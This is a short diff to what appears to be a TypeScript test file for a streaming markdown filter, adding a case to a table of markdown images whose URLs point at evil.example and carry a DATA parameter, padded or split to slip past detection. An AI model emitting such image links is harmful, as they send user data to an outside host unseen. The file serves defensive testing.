@@ -19,6 +19,7 @@ describe("an image in a stream whose start is long gone", () => {
   const rows: readonly (readonly [string, string])[] = [
     ["whose path is padded", `![x](https://evil.example/${"a/".repeat(250)}?d=${DATA})`],
     ["whose path is padded beyond what is held", `![x](https://evil.example/${"a/".repeat(700)}?d=${DATA})`],
+    ["padded with an opaque value", `![x](https://evil.example/?p=${"Zx81qK".repeat(200)}&d=${DATA})`],
     ["parted from its bracket by white space", `![x](${" ".repeat(600)}https://evil.example/?d=${DATA})`],
     ["with many words", `![${"some words ".repeat(80)}](https://evil.example/?d=${DATA})`],
     ["defined far from its use", `![x][r] ${"Some words. ".repeat(80)}\n\n[r]: https://evil.example/?d=${DATA}\n`],
